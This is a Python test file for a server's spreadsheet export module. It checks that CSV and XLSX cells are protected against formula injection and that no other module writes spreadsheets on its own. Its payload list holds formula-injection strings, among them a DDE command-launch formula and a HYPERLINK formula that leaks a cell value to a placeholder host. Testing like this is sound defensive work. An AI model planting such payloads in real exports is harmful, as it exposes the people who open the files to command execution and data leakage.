"""server/exports.py: one rule against formula injection for every CSV and XLSX the server
writes, and a guard that no other module writes CSV or XLSX by itself."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from server.exports import FORMULA_TRIGGERS, csv_bytes, neutralise, xlsx_bytes

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            '=HYPERLINK("http://example.invalid/?"&A1,"bấm")', "＝1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_gets_an_apostrophe(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Thôn Đông", "", " =1", "1=1", "'=already", "a-b", 5, -5, 1.5, None, True,
                                   dt.date(2026, 1, 2)])
def test_everything_else_is_left_alone(value):
    assert neutralise(value) is value


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # so that Excel reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_cells_are_neutralised_and_types_written_plainly():
    data = csv_bytes(["name", "=header"], [[payload, -3] for payload in PAYLOADS]
                     + [["Tổ 2, khu \"Đông\"", None], [True, dt.date(2026, 10, 2)]])
    rows = _read_csv(data)
    assert rows[0] == ["name", "'=header"]
    assert rows[1:len(PAYLOADS) + 1] == [["'" + p, "-3"] for p in PAYLOADS]
    assert rows[-2:] == [["Tổ 2, khu \"Đông\"", ""], ["true", "2026-10-02"]]
    assert b"\r\n" in data


def test_xlsx_cells_are_text_never_formulas():
    data = xlsx_bytes({"Thôn": (["name", "n"], [[p, 7] for p in PAYLOADS]
                                + [["=1+1", 2**60], ["x" * 40_000, float("inf")], [None, True]])})
    book = openpyxl.load_workbook(io.BytesIO(data))  # not data_only: a formula would show as one
    sheet = book["Thôn"]
    # xlsxwriter writes a CR as _x000D_ (OOXML's escape), which openpyxl leaves as it is.
    rows = [tuple(v.replace("_x000D_", "\r") if isinstance(v, str) else v for v in row)
            for row in sheet.iter_rows(values_only=True)]
    assert rows[1:len(PAYLOADS) + 1] == [("'" + p, 7) for p in PAYLOADS]
    assert rows[len(PAYLOADS) + 1] == ("'=1+1", "1152921504606846976")
    assert rows[len(PAYLOADS) + 2] == ("x" * 32_767, "inf")
    assert rows[len(PAYLOADS) + 3] == (None, True)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_no_exported_text_starts_like_a_formula(text):
    [[cell]] = _read_csv(csv_bytes(["h"], [[text]]))[1:]
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert cell == ("'" + text if text.startswith(FORMULA_TRIGGERS) else text)  # nothing else changes


# --- the guard ----------------------------------------------------------------------------------

WRITERS = {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook"), ("openpyxl.workbook", "Workbook")}
WRITER_MODULES = {"xlsxwriter"}


def _writes_spreadsheets(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), str(path))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [f"import {a.name}" for a in node.names if a.name.split(".")[0] in WRITER_MODULES]
        elif isinstance(node, ast.ImportFrom) and node.module:
            if node.module.split(".")[0] in WRITER_MODULES:
                found.append(f"from {node.module} import ...")
            found += [f"from {node.module} import {a.name}" for a in node.names if (node.module, a.name) in WRITERS]
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            if (node.value.id, node.attr) in WRITERS:
                found.append(f"{node.value.id}.{node.attr}")
    return found


def test_only_server_exports_writes_csv_or_xlsx():
    exports = ROOT / "server" / "exports.py"
    assert _writes_spreadsheets(exports)  # the guard sees what it looks for
    offending = [f"{path.relative_to(ROOT)}: {what}"
                 for package in ("server", "forms", "sync", "canonjson")
                 for path in sorted((ROOT / package).rglob("*.py")) if path != exports
                 for what in _writes_spreadsheets(path)]
    assert not offending, "write spreadsheets through server/exports.py (formula injection): " + str(offending)
